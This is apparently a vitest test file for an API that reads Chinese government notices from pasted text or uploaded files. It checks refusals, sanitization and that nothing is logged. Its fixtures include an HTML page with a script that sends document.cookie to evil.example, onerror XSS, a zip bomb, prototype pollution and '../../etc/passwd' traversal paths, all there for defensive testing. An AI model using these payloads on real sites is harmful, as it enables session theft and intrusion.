import { randomBytes } from "node:crypto";
import { unzipSync } from "fflate";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { lanchuan, tingbei } from "../city/demo.store.ts";
import { papersOn } from "../city/papers.data.ts";
import { today } from "../http/clock.ts";
import { aProduct, type Client, signedIn } from "../main/product.fixture.ts";
import type { Product } from "../main/product.ts";
import {
  blocksToText,
  makeDocx,
  makeOle,
  makePdf,
  makeWordPackage,
  makeZip,
  noticeBlocks,
} from "../paper/paper.fixture.ts";
import { readNoticeText } from "./notice.api.ts";

let product: Product;
let client: Client;
const logged: string[] = [];

beforeAll(async () => {
  product = await aProduct({ logTo: { write: (line) => void logged.push(line) } });
  client = await signedIn(product, "office");
});
afterAll(() => product.close());

type File = { readonly bytes: Uint8Array | string; readonly name?: string; readonly part?: string };
const boundary = "zhuanban-boundary";

/** The file as a browser sends it. */
function asUpload({ bytes, name = "通知.docx", part = "file" }: File): Buffer {
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="${part}"; filename="${name}"\r\n`;
  return Buffer.concat([
    Buffer.from(`${head}Content-Type: application/octet-stream\r\n\r\n`),
    Buffer.from(bytes),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
}

type Sending = { readonly headers?: Record<string, string>; readonly payload: Buffer | string | object };

async function send(path: string, { headers = {}, payload }: Sending) {
  const reply = await product.app.inject({
    method: "POST",
    url: `/api/notices/${path}`,
    headers: { cookie: client.cookie, ...headers },
    payload,
  });
  return { status: reply.statusCode, body: reply.json(), type: String(reply.headers["content-type"]) };
}

const multipart = { "content-type": `multipart/form-data; boundary=${boundary}` };
const upload = (file: File) => send("read-file", { headers: multipart, payload: asUpload(file) });
const paste = (text: unknown) => send("read", { payload: { text } });

/** A sentence a person can act on: of some length, ended, without a hole that nobody filled. */
const sentence = expect.stringMatching(/^[^{}]{12,}。$/);
const refused = (status: number, code: string) => ({
  status,
  type: "application/problem+json; charset=utf-8",
  body: expect.objectContaining({ status, code, detail: sentence, type: `/problems/${code}` }),
});

/** How many rows each table of a tenant holds. */
async function countRows(): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  for (const tenant of [lanchuan, tingbei]) {
    const db = product.database.forTenant(tenant);
    for (const table of ["paper", "body", "event", "membership", "unit", "person", "account", "api_key"]) {
      const { rows } = await sql<{ n: number }>`select count(*) as n from ${sql.table(table)}`.execute(db);
      counts[`${tenant} ${table}`] = rows[0]?.n ?? -1;
    }
  }
  return counts;
}

describe("a pasted paper", () => {
  test("is read with the words that say each value", async () => {
    const [paper] = papersOn(today(new Date()));
    const read = await client.get(readNoticeText, { body: { text: paper?.text ?? "" } });
    expect(read.reading).toMatchObject({
      verdict: "founds",
      charter: { name: "岚川市供水管网漏损治理工作专班", form: "task_force" },
    });
    const named = read.reading.traces.find(({ path }) => path === "name");
    const words = named?.spans.map(({ from, to }) => read.text.slice(from, to)).join("");
    expect(words).toContain("供水管网漏损治理工作专班");
  });

  test("that founds nothing is said to found nothing", async () => {
    const read = await client.get(readNoticeText, { body: { text: "今天天气很好，适合散步。" } });
    expect(read.reading).toMatchObject({ verdict: "nothing", charter: { name: "" } });
    expect(read.reading.reasons.length).toBeGreaterThan(0);
  });

  test.each<[string, unknown, number, string]>([
    ["empty", "", 422, "paper.empty"],
    ["only white space and NULs", " \n\u3000\0", 422, "paper.empty"],
    ["over two million characters", "长".repeat(2_000_001), 422, "paper.too-long"],
    ["marked secret", "机密★1年\n关于成立专班的通知", 422, "paper.classified"],
    ["not there", undefined, 400, "door.malformed"],
    ["null", null, 400, "door.malformed"],
    ["a number", 42, 400, "door.malformed"],
    ["a list", ["一", "二"], 400, "door.malformed"],
    ["an object", { text: "一" }, 400, "door.malformed"],
  ])("that is %s is refused with a sentence that helps", async (_, text, status, code) => {
    expect(await paste(text)).toEqual(refused(status, code));
  });

  test("with NULs and half characters is read all the same", async () => {
    const answer = await paste("关于成立\0岚川市防汛\ud800工作专班的通知");
    expect([answer.status, answer.body.text]).toEqual([200, expect.stringContaining("关于成立岚川市防汛")]);
  });

  test("of ten thousand names is read in seconds, and every name is there", async () => {
    const surnames = "赵钱孙李周吴郑王冯陈褚卫蒋沈韩杨朱秦尤许何吕施张孔曹严华金魏";
    const given = "安邦昌达恩丰国海宏家建君凯礼明宁平庆仁胜泰文祥兴毅友志中卓子";
    const pick = (from: string, at: number) => from[at % from.length] as string;
    const names = Array.from({ length: 10_000 }, (_, at) => {
      const step = Math.floor(at / surnames.length);
      return pick(surnames, at) + pick(given, step) + pick(given, Math.floor(step / given.length));
    });
    const text = `岚川市人民政府办公室关于成立岚川市万人植树工作专班的通知\n各单位：\n经市政府同意，决定成立岚川市万人植树工作专班。\n组长：阮长河 副市长\n成员：${names.join("、")}\n岚川市人民政府办公室\n2026年3月1日`;
    const from = performance.now();
    const { reading } = await client.get(readNoticeText, { body: { text } });
    expect(performance.now() - from).toBeLessThan(3_000);
    expect(reading.charter.members.length).toBeGreaterThan(9_900);
  });

  test("is read for nobody who has not signed in", async () => {
    expect(await send("read", { headers: { cookie: "" }, payload: { text: "通知" } })).toEqual(
      refused(401, "door.signed-out"),
    );
  });
});

describe("a file", () => {
  test.each<[string, () => Promise<Uint8Array>, string, string]>([
    ["DOCX", () => makeDocx(noticeBlocks), "通知.docx", "docx"],
    ["TXT", async () => Buffer.from(blocksToText(noticeBlocks)), "通知.txt", "txt"],
  ])("as %s is read, its name kept, nothing noted", async (_, make, name, format) => {
    const { status, body } = await upload({ bytes: await make(), name });
    expect(status).toBe(200);
    expect(body).toMatchObject({ format, fileName: name, notes: [], text: blocksToText(noticeBlocks) });
    expect(body.reading.charter.name).toBe("云川市防汛抗旱工作专班");
  });

  test("whose ending lies is read by its content, and a note says so", async () => {
    const { status, body } = await upload({ bytes: await makeDocx(noticeBlocks), name: "通知.pdf" });
    expect([status, body.format]).toEqual([200, "docx"]);
    const facts = { ending: "pdf", format: "DOCX" };
    expect(body.notes).toEqual([{ code: "paper.named-otherwise", facts }]);
  });

  test("saved from a site is read without its scripts", async () => {
    const page = `<!doctype html><html><head><title>通知</title><script>alert("偷")</script></head><body onload="alert(1)">
      <div class="content"><p>${blocksToText(noticeBlocks).replaceAll("\n", "</p><p>")}</p>
      <img src=x onerror="alert(2)"><script>fetch("//evil.example/" + document.cookie)</script></div></body></html>`;
    const { status, body } = await upload({ bytes: page, name: "通知.html" });
    expect([status, body.format]).toEqual([200, "html"]);
    expect(JSON.stringify(body)).not.toMatch(/alert|fetch|evil|<script|onerror/);
    expect(body.reading.charter.name).toBe("云川市防汛抗旱工作专班");
  });

  const key = `<${"00".repeat(32)}>`;
  const locked = `/ID [${key} ${key}] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O ${key} /U ${key} >>`;
  const bomb = makeWordPackage(`<w:p><w:r><w:t>${"\0".repeat(60 * 1024 * 1024)}</w:t></w:r></w:p>`);
  test.each<[string, File, number, string]>([
    ["empty", { bytes: "" }, 422, "paper.empty"],
    ["of white space", { bytes: " \n\u3000", name: "a.txt" }, 422, "paper.empty"],
    ["over 20 MB", { bytes: new Uint8Array(20 * 1024 * 1024 + 1), name: "a.txt" }, 413, "door.too-large"],
    [
      "encrypted",
      { bytes: makeOle("Root Entry", "EncryptionInfo", "EncryptedPackage") },
      422,
      "paper.encrypted",
    ],
    ["locked, as PDF", { bytes: makePdf([[{ text: "通知" }]], { trailer: locked }) }, 422, "paper.encrypted"],
    ["cut off", { bytes: makeZip({ "word/document.xml": "<w:document" }).slice(0, 40) }, 422, "paper.broken"],
    ["of a broken part", { bytes: makeZip({ "word/document.xml": "<w:document" }) }, 422, "paper.broken"],
    ["a PDF that is none", { bytes: "%PDF-1.7\nnonsense", name: "a.pdf" }, 422, "paper.broken"],
    ["a scan", { bytes: makePdf([[], []]), name: "a.pdf" }, 422, "paper.scan"],
    ["a zip bomb", { bytes: bomb }, 422, "paper.bomb"],
    [
      "a picture",
      { bytes: Buffer.from("\x89PNG\r\n\x1a\n\0\0", "latin1"), name: "a.pdf" },
      422,
      "paper.image",
    ],
    [
      "a Word file of the old kind",
      { bytes: makeOle("Root Entry", "WordDocument") },
      422,
      "paper.legacy-doc",
    ],
    ["marked secret", { bytes: "绝密★启用前\n通知", name: "a.txt" }, 422, "paper.classified"],
  ])("that is %s is refused with a sentence that helps", async (_, file, status, code) => {
    expect(await upload(file)).toEqual(refused(status, code));
  });

  test("of 9 MB, most of it a picture, is read", async () => {
    const picture = new Uint8Array(randomBytes(9 * 1024 * 1024));
    const bytes = makeZip({ ...unzipSync(await makeDocx(noticeBlocks)), "word/media/image1.png": picture });
    const { status, body } = await upload({ bytes });
    expect([status, body.text]).toEqual([200, blocksToText(noticeBlocks)]);
  });

  test.each([
    ["no file at all", multipart, `--${boundary}--\r\n`],
    [
      "a field instead of a file",
      multipart,
      `--${boundary}\r\nContent-Disposition: form-data; name="file"\r\n\r\nx\r\n--${boundary}--\r\n`,
    ],
    ["an upload cut off", multipart, asUpload({ bytes: "通知全文" }).subarray(0, 150)],
    ["a form without a boundary", { "content-type": "multipart/form-data" }, "x"],
    ["JSON", { "content-type": "application/json" }, "{}"],
  ])("is missed where there is %s", async (_, headers, payload) => {
    expect(await send("read-file", { headers, payload })).toEqual(refused(422, "door.no-file"));
  });

  test("is not read for who has not signed in", async () => {
    const headers = { ...multipart, cookie: "" };
    const answer = await send("read-file", { headers, payload: asUpload({ bytes: "通知" }) });
    expect(answer).toEqual(refused(401, "door.signed-out"));
  });
});

describe("a request that is none", () => {
  const json = { "content-type": "application/json" };
  test.each<[string, Record<string, string>, string, number, string]>([
    ["broken JSON", json, '{"text": "通', 400, "door.not-json"],
    ["no JSON", json, "", 400, "door.not-json"],
    ["a poisoned prototype", json, '{"__proto__": {"text": "x"}}', 400, "door.not-json"],
    ["a list", json, "[]", 400, "door.malformed"],
    ["XML", { "content-type": "application/xml" }, "<text/>", 415, "door.media-type"],
    ["plain text", { "content-type": "text/plain" }, "通知", 415, "door.media-type"],
    ["a form", { "content-type": "application/x-www-form-urlencoded" }, "text=x", 415, "door.media-type"],
    ["a file where JSON belongs", multipart, asUpload({ bytes: "通知" }).toString(), 400, "door.malformed"],
    ["9 MB of JSON", json, JSON.stringify({ text: "a".repeat(9 * 1024 * 1024) }), 413, "door.too-large"],
  ])("%s is refused with a sentence", async (_, headers, payload, status, code) => {
    expect(await send("read", { headers, payload })).toEqual(refused(status, code));
  });

  test.each(["https://evil.example", "null", "http://localhost:81", "nonsense"])(
    "from the site %s is not carried out",
    async (origin) => {
      const answer = await send("read", { headers: { origin }, payload: { text: "通知" } });
      expect(answer).toEqual(refused(403, "door.other-site"));
    },
  );

  test("from this site is", async () => {
    const headers = { host: "zhuanban.example", origin: "https://zhuanban.example" };
    expect((await send("read", { headers, payload: { text: "通知" } })).status).toBe(200);
  });

  test.each(["nothing", "read/", "../../etc/passwd", "%2e%2e/%2e%2e/package.json", "%E0%A4%A"])(
    "to the address %s finds nothing",
    async (path) => {
      expect(await send(path, { payload: {} })).toEqual(refused(404, "door.unknown"));
    },
  );

  test("is told in English where English is asked for", async () => {
    const { body } = await send("read", {
      headers: { "accept-language": "en-GB,en" },
      payload: { text: "" },
    });
    expect(body.detail).toBe(
      "The file is empty. Check that it is the right one, or paste the text of the notice.",
    );
  });
});

describe("nothing of a paper is kept", () => {
  const secret = "玄武湖底的暗门";

  test("neither of one that was read nor of one that was refused, in no table and no line of the log", async () => {
    const before = await countRows();
    logged.length = 0;
    await paste(`关于成立岚川市${secret}工作专班的通知`);
    await paste(`机密★1年\n关于成立岚川市${secret}工作专班的通知`);
    await paste([secret]);
    for (const name of [`${secret}.txt`, `${secret}.docx`])
      await upload({ bytes: `绝密★启用前\n${secret}`, name });
    await send("read", { headers: { "content-type": "application/json" }, payload: `{"text":"${secret}` });
    await send(`read?q=${encodeURIComponent(secret)}`, { payload: {} });
    expect(await countRows()).toEqual(before);
    const log = logged.join("");
    expect(logged.filter((line) => line.includes('"answered"'))).toHaveLength(7);
    expect(log).not.toContain(secret);
    expect(log).not.toContain(encodeURIComponent(secret));
    expect(log).not.toMatch(/zhuanban_session|密★|office/);
  });
});
